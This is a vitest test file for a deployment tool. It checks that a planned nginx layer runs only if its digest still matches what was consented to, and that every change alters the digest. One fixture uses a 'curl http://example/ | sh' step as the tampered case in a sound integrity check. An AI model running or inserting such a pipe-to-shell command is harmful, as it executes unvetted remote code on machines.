import { expect, test } from 'vitest';
import type { ActivityDependencies } from '../../activities/deps.ts';
import { layerActivities } from '../../activities/layer.ts';
import { layerOn } from '../../activities/layer-on.ts';
import { planDigest } from '../../install/index.ts';
import { memoryDemand } from '../../layers/parts/demands.ts';
import { findLayer, layerDigest } from '../../layers/index.ts';
import { codeOf, type DeployPlan, type PlannedLayer } from '../../model/index.ts';
import { ipv4 } from '../../net/index.ts';
import { shell } from '../../remote/index.ts';
import type { Store } from '../../store/index.ts';
import { ownStore } from '../store/fixtures/own-store.ts';
import { planInput } from '../install/example.ts';
import { machine, plan } from '../store/records.ts';

/** docs/security.md, rule 14: a layer is laid as it was planned, or not at all. The store is real; nobody is connected to. */
let store: Store;
ownStore(async (made) => {
  store = made;
  await store.subnets.put(planInput().subnet);
});

let connections = 0;
const hosts = {
  with() {
    connections += 1;
    return Promise.reject(new Error('the machine was connected to'));
  },
};
const bootDeadlines = { dhcpDeadlineMs: 900_000, helloDeadlineMs: 900_000 };
const activities = () => layerActivities({ store, hosts, bootDeadlines } as unknown as ActivityDependencies);

const request = { layer: 'nginx', parameters: { title: 'Hello' } };
const packageProxy = 'http://10.78.0.254:3142';
const on = { image: 'debian/12', machineName: 'node-1', address: ipv4('10.78.0.20'), packageProxy };
const now = layerOn(request, on, 'apply');
const deployed = machine('m-1', {
  site: 'default',
  name: on.machineName,
  deployment: { image: on.image, address: on.address, hostKeys: [] } as never,
});

/** What a deployment of this machine was consented to. */
async function about(operationId: string, layers: readonly PlannedLayer[] | 'no plan', digest?: string) {
  if (layers !== 'no plan') {
    const made: DeployPlan = { ...plan, packageProxy, layers };
    await store.plans.add(operationId, made, planDigest(made));
  }
  return { operationId, machine: deployed, request, ...(digest !== undefined && { digest }) };
}
const outlined = async (ask: Awaited<ReturnType<typeof about>>) =>
  activities()
    .outlineLayer({ ...ask, verb: 'apply' })
    .then(({ digest }) => digest, codeOf);

const planned = { name: 'nginx', version: '1' };
const older = { ...planned, digest: '0'.repeat(64) };

test('as it was planned it is laid; changed since, nothing of it is run', async () => {
  expect(await outlined(await about('same', [{ ...planned, digest: now.digest }]))).toBe(now.digest);
  expect(await outlined(await about('changed', [older]))).toBe('LAYER_CHANGED');
  const twice = [older, { ...planned, digest: now.digest }];
  expect(await outlined(await about('asked for twice', twice))).toBe(now.digest);
  expect(await outlined(await about('by itself', 'no plan'))).toBe(now.digest);
  expect(await outlined(await about('before plans told', [{ name: 'nginx' }]))).toBe(now.digest);
});

test('changed while it is laid, by a worker that has another one, it is not gone on with', async () => {
  const ask = await about('half way', 'no plan', older.digest);
  const step = now.steps[0]?.name ?? '';
  const run = activities().runLayerStep({ ...ask, verb: 'apply', step, deadlineMs: 1_000 });
  expect(await run.catch(codeOf)).toBe('LAYER_CHANGED');
  expect(await activities().verifyLayer(ask).catch(codeOf)).toBe('LAYER_CHANGED');
  expect(connections).toBe(0);
  // With the digest of the outline it gets as far as the machine.
  const same = { ...ask, digest: now.digest, verb: 'apply', step, deadlineMs: 1_000 } as const;
  await expect(activities().runLayerStep(same)).rejects.toThrow('the machine was connected to');
});

test('whatever is changed of a layer changes its digest', () => {
  const { layer, demands, steps, verifications } = now;
  const deeds = { demands, steps, verifications };
  const [first, ...rest] = steps;
  if (!first) throw new Error('it has no steps');
  const changed = [
    layerDigest({ ...layer, version: 'another' }, deeds),
    layerDigest(layer, { ...deeds, steps: rest }),
    layerDigest(layer, { ...deeds, steps: steps.toReversed() }),
    layerDigest(layer, { ...deeds, verifications: [] }),
    layerDigest(layer, { ...deeds, demands: [memoryDemand(512)] }),
    layerDigest(layer, {
      ...deeds,
      steps: [{ ...first, script: shell`curl http://example/ | sh` }, ...rest],
    }),
    layerDigest(layer, { ...deeds, steps: [{ ...first, done: shell`true` }, ...rest] }),
    layerDigest(layer, { ...deeds, steps: [{ ...first, does: 'Nothing.' }, ...rest] }),
    layerOn({ ...request, parameters: {} }, on, 'apply').digest,
    layerOn(request, { ...on, address: ipv4('10.78.0.21') }, 'apply').digest,
    layerOn(request, { ...on, packageProxy: undefined }, 'apply').digest,
    layerOn(request, on, 'remove').digest,
  ];
  expect(new Set([now.digest, ...changed]).size).toBe(changed.length + 1);
  expect(layerOn(structuredClone(request), on, 'apply').digest).toBe(now.digest);
});

test('one that is not for the system is refused before there is a plan', () => {
  expect(() => layerOn(request, { ...on, image: 'debian/11' }, 'apply')).toThrow(
    expect.objectContaining({ code: 'LAYER_UNSUPPORTED' }),
  );
  expect(findLayer('nginx').systems).toContain(on.image);
});
